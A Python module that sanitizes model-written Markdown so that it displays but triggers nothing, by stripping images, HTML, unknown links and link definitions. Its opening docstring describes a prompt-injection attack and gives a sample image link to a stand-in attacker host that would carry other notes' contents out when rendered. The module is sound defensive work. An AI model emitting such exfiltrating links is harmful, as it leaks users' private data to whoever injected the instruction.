r"""Markdown that shows and does nothing: no image, no HTML, no link to an address that the reader's texts do not hold.

Whoever can put a note before a model can ask it to write `![](https://evil.example/?q=what-the-other-notes-say)`,
which a client fetches as soon as it shows it. So in an answer

- `<` that could open a tag, a comment or an autolink becomes `‹`;
- no `[` follows a `!` but in `![[name]]`, which CommonMark does not read: images with an address that may stay become
  links, others their description;
- `[text](address)` stays where the address stands in one of the texts that the caller gives and leads to a web page
  or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where it could join with what stands
  beside it;
- a bare address that stands in none of them becomes `‹link removed›`;
- the info string of a fence is one word: some parsers read what else stands there as text;
- definitions (`[label]: address`) get a blank before the colon, so that none defines anything.

Code is content and stays: spans that close on their line, and blocks whose fence stands at the line's start, which
every CommonMark parser reads alike. Where parsers may differ (a span that does not close, one in a table's row, a
fence inside a list) nothing counts as code up to the paragraph's or the text's end. Labels of citations stay; none
goes, and none comes about: what goes leaves something in its place.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from functools import cache

from shared.language.vocabulary import conjunctions
from shared.markdown.neutralize import NOTHING, PAD, skeleton

REMOVED = "‹link removed›"

_LINK_START = r"https?://|ftp://|www\.|mailto:|xmpp:|(?<![:/])//(?=[^\s/<>]{1,253}\.\w)"
"""What Markdown clients turn into links without being asked (GitHub's extended autolinks)."""
_MAX_ADDRESS, _MAX_SPAN, _MAX_INFO = 2048, 1000, 200
"""Characters; what is longer is read as text."""
_ADDRESS = re.compile(rf"(?:{_LINK_START})[!#-&(-;=?-Z_a-z~']{{0,{_MAX_ADDRESS}}}", re.IGNORECASE)
_ADDRESS_IN_LINK = rf"(?P<address>(?:[^\s<>\[\]()`\\|]|\([^\s<>\[\]()`\\|]*\)){{0,{_MAX_ADDRESS}}}+)"
_TARGET = re.compile(rf"\([ \t]*+<?{_ADDRESS_IN_LINK}>?(?:[ \t]++[\"'(][^\[\]`\\<>\n]{{0,300}}[\"')])?[ \t]*+\)")
_LINK = re.compile(rf"\[(?P<text>[^\[\]\n`<>\\]{{0,300}})\]{_TARGET.pattern}")
_POINTS_SOMEWHERE = re.compile(r"[:/#]|\.[A-Za-z]{2}|\A\Z")
_PLAIN_TEXT = re.compile(r"[\w \t.,;'’\"“”()*&%+/-]+")
_SAFE = re.compile(r"(?:https?://|mailto:)[^\s/]", re.IGNORECASE)
"""An address of a web page or a mailbox."""
_AFTER = ".,;:!?'*_~)&"
_MAX_AFTER = 4
"""Signs of a sentence's end that are tried as no part of an address: `(see "https://…".)` has three."""
_SPECIAL = re.compile(rf"[`\\<>\[\]\n]|!(?=\[)|~{{3,}}|{_LINK_START}|@(?=[a-z0-9-]{{1,63}}\.\w)", re.IGNORECASE)
_MAILBOX = re.compile(r"[\w.+-]{1,64}\Z")
_HOST = re.compile(r"@[\w.-]{1,255}")
_HARMLESS_AFTER_LESS = frozenset(" \t\n0123456789=-<‹")
_LABEL = re.compile(r"\[N\d+\]")
_EMBEDDED = re.compile(r"!\[\[(?P<name>[\w \t.,;'’&()/#^|%+-]{1,300})\]\]")
"""How Obsidian shows a file of the vault in a note."""
_JOINS_BEFORE, _JOINS_AFTER = frozenset(" \t\n(*_\"“'"), frozenset(" \t\n.,;!?)*_\"”'")
_CONTAINER = re.compile(r"[ \t>*+\-\d.):~]*")
_INFO = re.compile(r"[ \t]*(?P<word>[\w+#.-]*)[ \t]*", re.ASCII)
_BEYOND_A_LINE = re.compile("[|\x85\u2028\u2029]")
_PROSE = re.compile(r"\([\w'’-]+[,;:]? [\w(]")
"""What no parser takes for a link's address behind a blank. A backslash parts other brackets from what they follow."""
_BEHIND_BRACKET = re.compile(r"([ \t]*+)[(:]")
_TICKS = re.compile(r"`+")
_RUN = re.compile(r"`+|~+")
_LINE_KEPT = 64


def sanitize(text: str, texts: Sequence[str] = ()) -> str:
    """Markdown that a model or a note's author wrote -> Markdown that shows the same and does nothing; `texts`: where
    the addresses stand that may stay. Sanitizing twice is sanitizing once. Linear in the text.
    """
    return Sanitizer(texts).feed(text)


class Sanitizer:
    """Goes through a text once, from its start to its end, piece by piece. What it gives out is safe as one text.

    A piece ends with a line, in front of a blank or behind a sentence's sign; a link, an image or a span of code that
    goes on in the next piece counts as none.
    """

    def __init__(self, texts: Sequence[str] = ()) -> None:
        self._text, self._texts = "", texts
        self._at = 0
        self._sent: list[str] = []
        self._last = "\n"
        self._closed = False  # whether a bracket was closed last, blanks aside
        self._line = ""  # the start of what was sent of this line
        self._fence = ""  # the opening of the block of code we are in
        self._no_spans = False  # nothing counts as a span of code up to the paragraph's end
        self._no_code = False
        self._opened_angle = False
        self._ends_in_address = False  # whether the last piece does: what follows must not become a part of it
        self._may_define = True  # whether the bracket open or closed last may be the label of a definition

    def feed(self, text: str) -> str:
        """The next piece -> the same sanitized."""
        parted = self._ends_in_address and text[:1].strip()
        self._text, self._at, self._sent = f" {text}" if parted else text, 0, []
        self._ends_in_address = False
        while self._at < len(self._text):
            self._step()
        return "".join(self._sent)

    def _step(self) -> None:
        if self._fence:
            line = self._rest_of_line()
            closes = line.strip(" \t") == self._fence
            self._fence = "" if closes else self._fence
            self._line_of_code(line, line.rstrip() if closes else line)
        elif self._closed and (behind := _BEHIND_BRACKET.match(self._text, self._at)):
            self._after_bracket(behind[1])
        else:
            found = _SPECIAL.search(self._text, self._at)
            end = found.start() if found else len(self._text)
            if end > self._at:
                self._take(self._text[self._at : end])
            elif found:
                self._special(found[0])

    def _special(self, signs: str) -> None:
        sign, following = signs[0], self._text[self._at + 1 : self._at + 2]
        if sign == "\n":
            self._no_spans = self._no_spans and bool(self._line.strip())
            self._newline()
        elif sign == "\\":
            kept = following.isascii() and following.isprintable() and not following.isalnum()
            self._take("\\" + following if kept and following not in "< " else "\\")
        elif sign == "<":
            harmless = following in _HARMLESS_AFTER_LESS
            self._opened_angle = self._opened_angle or not harmless
            self._take("<", "<" if harmless else "‹")
        elif sign == ">":
            self._take(">", "›" if self._opened_angle else ">")
            self._opened_angle = False
        elif sign == "]":
            self._take("]")
        elif sign in "`~![@":
            {"`": self._run, "~": self._run, "!": self._image, "[": self._bracket, "@": self._mail}[sign]()
        else:
            self._bare_address(signs)

    def _take(self, taken: str, sent: str | None = None) -> None:
        """Go on behind `taken`, for which `sent` is shown; None: itself."""
        self._at += len(taken)
        text = taken if sent is None else sent
        if text:
            self._sent.append(text)
            self._last = text[-1]
            if shown := text.rstrip(" \t"):
                self._closed = shown[-1] == "]"
            self._line = (self._line + text[:_LINE_KEPT])[:_LINE_KEPT]

    def _rest_of_line(self) -> str:
        end = self._text.find("\n", self._at)
        return self._text[self._at : end if end >= 0 else None]

    def _newline(self) -> None:
        self._take("\n")
        self._line, self._opened_angle, self._may_define = "", False, True

    # -- code

    def _run(self) -> None:
        """Backticks or tildes."""
        found = _RUN.match(self._text, self._at)
        assert found  # noqa: S101 - it begins with one
        run = found[0]
        if len(run) > 2 and not self._no_code:  # three make a fence
            if not self._line:
                self._open_fence(run)
                return
            self._no_code = _CONTAINER.fullmatch(self._line) is not None
        self._take(run if run[0] == "~" or self._no_code or self._no_spans else self._span(run))

    def _open_fence(self, run: str) -> None:
        line = self._rest_of_line()
        info = _INFO.fullmatch(line, len(run)) if len(line) <= _MAX_INFO else None
        closing = re.compile(rf"\n {{0,3}}{re.escape(run)}").search(self._text, self._at + len(line))
        holds = closing is not None and closing.start() > self._at + len(line)
        if info and closing and holds and re.compile(r"[ \t]*(?:\n|\Z)").match(self._text, closing.end()):
            self._fence = run
            self._line_of_code(line, run + info["word"])
        else:
            self._no_code = True  # whether this opens a block is not ours to tell
            self._take(run)

    def _line_of_code(self, line: str, shown: str) -> None:
        self._take(line, shown)
        if self._at < len(self._text):
            self._newline()
            self._no_spans = False

    def _span(self, run: str) -> str:
        """The span of code that the run opens, or the run alone."""
        if self._last in "\\~":  # some parsers see no span behind these, whatever stands before them
            self._no_spans = True
            return run
        limit = self._at + _MAX_SPAN
        newline = self._text.find("\n", self._at, limit)
        for found in _TICKS.finditer(self._text, self._at + len(run)):
            if found.start() >= (limit if newline < 0 else newline):
                break
            if found[0] == run:
                span = self._text[self._at : found.end()]
                if _BEYOND_A_LINE.search(span):
                    break
                return span
        self._no_spans = True
        return run

    # -- links

    def _image(self) -> None:
        embedded = _EMBEDDED.match(self._text, self._at)
        if embedded and not _ADDRESS.search(embedded["name"]) and not _label().fullmatch(skeleton(embedded["name"])):
            self._may_define = False
            self._take(embedded[0])
        elif not self._link(1):
            self._take("!")

    def _bracket(self) -> None:
        if self._link(0):
            return
        self._may_define = self._may_define and _CONTAINER.fullmatch(self._line) is not None
        label = _LABEL.match(self._text, self._at)
        opened = label[0] if label else "["
        self._take(opened, f" {opened}" if self._last == "!" and not label else opened)

    def _link(self, ahead: int) -> bool:
        """Whether a link, or with one character ahead an image, was taken as a whole."""
        link = _LINK.match(self._text, self._at + ahead)
        if not link or _LABEL.match(self._text, self._at + ahead):
            return False
        text, address = link["text"], link["address"]
        if not _PLAIN_TEXT.fullmatch(text) or not _POINTS_SOMEWHERE.search(address):
            return False
        shown, following = text, self._text[link.end() : link.end() + 1]
        if _SAFE.match(address) and _contains(address, self._texts):
            shown = f"{' ' if self._last in '!]' else ''}[{text}]({address})"
        elif (
            self._last not in _JOINS_BEFORE
            or (following and following not in _JOINS_AFTER)
            or _label().fullmatch(skeleton(text))
            or _ADDRESS.search(text)
        ):
            return False
        self._take(self._text[self._at : link.end()], shown)
        return True

    def _after_bracket(self, blanks: str) -> None:
        self._take(blanks)
        if self._text[self._at] == ":":
            self._take(":", " :" if self._may_define and not blanks else ":")
            return
        target = _TARGET.match(self._text, self._at)
        if target and _POINTS_SOMEWHERE.search(target["address"]) and not _contains(target["address"], self._texts):
            self._take(target[0], "")
        else:
            prose = "(" if self._last != "]" else " ("
            self._take("(", prose if _PROSE.match(self._text, self._at) else "\\(")

    def _holds(self, mailbox: str, run: str) -> bool:
        """Whether the texts hold the address that the run begins with, with or without a sentence's end behind it."""
        after = min(_MAX_AFTER, len(run) - len(run.rstrip(_AFTER)))
        return any(_contains(mailbox + run[: len(run) - end], self._texts) for end in range(after + 1))

    def _mail(self) -> None:
        """`name@host`, which many clients link: the texts hold it, or it is spelt so that none does."""
        name = _MAILBOX.search(self._text, max(0, self._at - 64), self._at)
        host = _HOST.match(self._text, self._at)
        assert host  # noqa: S101 - it begins with one
        known = not name or self._holds(name[0], host[0])
        self._take("@", "@" if known else " (at) ")

    def _bare_address(self, start: str) -> None:
        found = _ADDRESS.match(self._text, self._at)
        assert found  # noqa: S101 - it begins with `start`
        following = self._text[found.end() : found.end() + 1]
        separate = "" if not following or following.isspace() else " "  # what follows must not become a part of it
        if found[0] == start or self._holds("", found[0]):
            self._ends_in_address = not following
            self._take(found[0], f"{found[0]}{separate}")
        else:
            self._take(found[0].rstrip(_AFTER), f"{' ' if self._last == ']' else ''}{REMOVED}")


def _contains(address: str, texts: Iterable[str]) -> bool:
    """Whether one of the texts has the whole address: not as the start or the middle of a longer one."""
    whole = rf"(?<![A-Za-z0-9]){re.escape(address)}(?![A-Za-z0-9/\-%=&?#~+@])"
    return any(address in text and re.search(whole, text) for text in texts)


@cache
def _label() -> re.Pattern[str]:
    """What could be a part of a citation's marker, in the skeleton of a text."""
    letters = "".join(sorted(set("".join(conjunctions()))))
    return re.compile(rf"[\s{PAD}{NOTHING}^Nn\d,;&/、*_~`{letters}-]*")
